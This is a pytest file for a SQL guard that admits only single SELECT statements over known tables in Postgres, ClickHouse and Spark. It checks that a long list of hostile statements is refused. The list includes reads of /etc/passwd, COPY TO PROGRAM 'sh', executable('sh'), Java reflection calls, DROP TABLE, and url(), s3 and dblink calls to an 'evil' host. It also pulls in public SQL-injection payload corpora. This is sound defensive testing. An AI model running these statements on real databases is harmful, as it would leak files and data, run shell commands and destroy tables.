"""The gate of the other engines: one SELECT over known tables and listed functions, printed again by us."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from store.errors import QueryRefused
from store.principal import LOCAL_OWNER
from warehouse.guard import RawSql, authorize
from warehouse.model.schema import SemanticModel, Table
from warehouse.snapshot import remote

COLUMNS = [("orders", c) for c in ("id", "customer_id", "day", "amount", "status")]
COLUMNS += [("customers", c) for c in ("id", "name", "country")]
DIALECTS = ("postgres", "clickhouse", "spark")


def bind(sql: str, dialect: str) -> str:
    snapshot = remote(dialect, COLUMNS)
    model = SemanticModel(model="m", tables={name: Table(source=name) for name in snapshot.tables})
    return authorize(RawSql(sql, dialect), LOCAL_OWNER, model=model, snapshot=snapshot).sql


def refused(sql: str, dialect: str) -> str:
    with pytest.raises(QueryRefused) as caught:
        bind(sql, dialect)
    assert caught.value.hint
    return str(caught.value.code)


HOSTILE: dict[str, list[str]] = {
    "postgres": [
        "SELECT pg_sleep(10)",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_ls_dir('/')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT query_to_xml('SELECT * FROM secrets', true, true, '')",
        "SELECT * FROM pg_catalog.pg_shadow",
        "SELECT * FROM information_schema.tables",
        "SELECT current_setting('data_directory')",
        "SELECT set_config('x', 'y', false)",
        "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
        "COPY orders TO PROGRAM 'sh'",
        "SELECT * INTO copied FROM orders",
        "SELECT * FROM orders FOR UPDATE",
        "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x",
        "DO $$ BEGIN END $$",
        "SELECT 'pg_class'::regclass",
        "SELECT o.pg_sleep FROM orders o",
        "SELECT ctid FROM orders",
        "SELECT xmin, * FROM orders",
        "SELECT current_user",
        "SELECT version()",
        "SELECT row_to_json(orders) FROM orders",
        "SELECT nextval('s')",
        "SELECT U&'\\0027'",
        "VALUES (1)",
        "SELECT * FROM orders TABLESAMPLE SYSTEM (1)",
        "SELECT * FROM ROWS FROM (generate_series(1, 2))",
        "SELECT * FROM generate_series(1, 1000000000000)",
        "SELECT repeat('x', 1000000000)",
    ],
    "clickhouse": [
        "SELECT * FROM url('http://evil/', CSV, 'a String')",
        "SELECT * FROM file('/etc/passwd')",
        "SELECT * FROM s3('https://evil/x', 'CSV')",
        "SELECT * FROM remote('evil', system.one)",
        "SELECT * FROM mysql('h', 'd', 't', 'u', 'p')",
        "SELECT * FROM numbers(1000000000000)",
        "SELECT * FROM merge('.*')",
        "SELECT * FROM executable('sh', TabSeparated, 'a String')",
        "SELECT * FROM system.users",
        "SELECT sleep(3)",
        "SELECT sleepEachRow(1) FROM orders",
        "SELECT file('/etc/passwd')",
        "SELECT dictGet('d', 'a', 1)",
        "SELECT joinGet('d', 'a', 1)",
        "SELECT hostName()",
        "SELECT currentUser()",
        "SELECT getSetting('max_threads')",
        "SELECT * FROM orders INTO OUTFILE 'x'",
        "SELECT * FROM orders SETTINGS readonly = 0",
        "SELECT * FROM orders FORMAT JSON",
        "SELECT * FROM orders FINAL SAMPLE 0.1",
        "SELECT _part FROM orders",
        "SYSTEM SHUTDOWN",
        "SELECT * FROM orders PREWHERE 1",
        "INSERT INTO FUNCTION url('http://evil') SELECT 1",
    ],
    "spark": [
        "SELECT java_method('java.lang.Runtime', 'getRuntime')",
        "SELECT reflect('java.lang.System', 'getenv')",
        "SELECT * FROM parquet.`/etc`",
        "SELECT * FROM csv.`/etc/passwd`",
        "SELECT * FROM read_files('/etc')",
        "SELECT input_file_name() FROM orders",
        "SELECT current_user()",
        "SELECT * FROM range(1000000000000)",
        "SELECT TRANSFORM(id) USING 'sh' FROM orders",
        "SELECT /*+ BROADCAST(orders) */ * FROM global_temp.x",
        "SELECT * FROM orders VERSION AS OF 1",
        "SELECT * FROM default.secrets",
        "SELECT spark_partition_id() FROM orders",
        "SELECT secret('a', 'b')",
        "ADD JAR 'x'",
        "SET spark.x = 1",
        "CACHE TABLE orders",
        "SHOW TABLES",
        "SELECT aes_decrypt(name, 'k') FROM customers",
        "SELECT from_json(name, 'a INT') FROM customers",
    ],
}
EVERYWHERE = [
    "SELECT 1; SELECT 2",
    "DROP TABLE orders",
    "INSERT INTO orders VALUES (1)",
    "UPDATE orders SET id = 1",
    "DELETE FROM orders",
    "CREATE TABLE x AS SELECT 1",
    "GRANT ALL ON orders TO public",
    "SELECT * FROM secrets",
    "SELECT * FROM other.orders",
    "SELECT * FROM a.b.orders",
    "SELECT nothing FROM orders",
    "SELECT secrets.x FROM orders",
    "WITH x AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM x",
    "SELECT (WITH secrets AS (SELECT 1 AS q) SELECT q FROM secrets), (SELECT max(a) FROM secrets)",
    "SELECT * FROM orders WHERE id = ?",
    "SELECT " + "(" * 3000 + "1" + ")" * 3000,
    "SELECT 'open",
    "SELECT 'a\x00b'",
    "",
]


@pytest.mark.parametrize("dialect", DIALECTS)
def test_hostile_statements_are_refused(dialect: str) -> None:
    for sql in HOSTILE[dialect] + EVERYWHERE:
        assert refused(sql, dialect).startswith("sql_"), sql


@pytest.mark.data
@pytest.mark.parametrize("dialect", DIALECTS)
def test_the_hostile_corpus_is_refused_too(dialect: str, corpora: Path) -> None:
    lines = (corpora / "duckdb-guard" / "statements.jsonl").read_text(encoding="utf-8").splitlines()
    hostile = [row["sql"] for row in map(json.loads, lines) if row["expect"] == "refuse"]
    bound = []
    for sql in hostile:
        try:
            bound.append(bind(sql, dialect))
        except QueryRefused:
            continue
    assert bound == []


@pytest.mark.data
@pytest.mark.parametrize("dialect", DIALECTS)
def test_injection_lines_never_reach_an_engine(dialect: str, corpora: Path) -> None:
    lines: set[str] = set()
    for corpus in ("fuzzdb", "payloads-all-the-things"):
        for path in (corpora / corpus / "sql-injection").rglob("*.txt"):
            lines.update(path.read_bytes().decode("utf-8", "surrogateescape").splitlines())
    bound = []
    for line in sorted(lines):
        try:
            bound.append(bind(line, dialect))
        except QueryRefused:
            continue
    assert len(lines) > 1000
    assert not [sql for sql in bound if "FROM" in sql.upper()], bound
    assert len(bound) <= 5


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM orders",
        "SELECT o.*, c.country FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.amount > 5",
        "SELECT status, count(*), avg(amount) FROM orders GROUP BY status HAVING count(*) > 1 ORDER BY 2 DESC",
        "WITH big AS (SELECT * FROM orders WHERE amount > 10) SELECT count(*) FROM big",
        "SELECT id, row_number() OVER (PARTITION BY status ORDER BY amount DESC) AS r FROM orders",
        "SELECT CASE WHEN amount > 1 THEN 'a' ELSE 'b' END AS k, count(DISTINCT customer_id) FROM orders GROUP BY 1",
        "SELECT upper(name), coalesce(country, 'x') FROM customers WHERE name LIKE 'a%' OR country IN ('DE', 'FR')",
        "SELECT id FROM orders UNION ALL SELECT id FROM customers",
        "SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE country = 'DE')",
        "SELECT extract(year FROM day) AS y, sum(amount) FROM orders GROUP BY 1",
    ],
)
def test_ordinary_sql_is_printed_again_with_every_name_quoted(sql: str, dialect: str) -> None:
    text = bind(sql + " -- a comment", dialect)
    assert "comment" not in text
    assert "*" not in text.replace("COUNT(*)", "").replace("count(*)", "")
    assert ("`orders`" if dialect == "spark" else '"orders"') in text or "customers" in text


def test_a_bound_query_of_one_engine_is_refused_by_another(guarded: Any) -> None:
    from store.errors import Defect

    snapshot = remote("postgres", COLUMNS)
    model = SemanticModel(model="m", tables={"orders": Table(source="orders")})
    bound = authorize(RawSql("SELECT id FROM orders", "postgres"), LOCAL_OWNER, model=model, snapshot=snapshot)
    with pytest.raises(Defect):
        guarded.engine.run(bound)
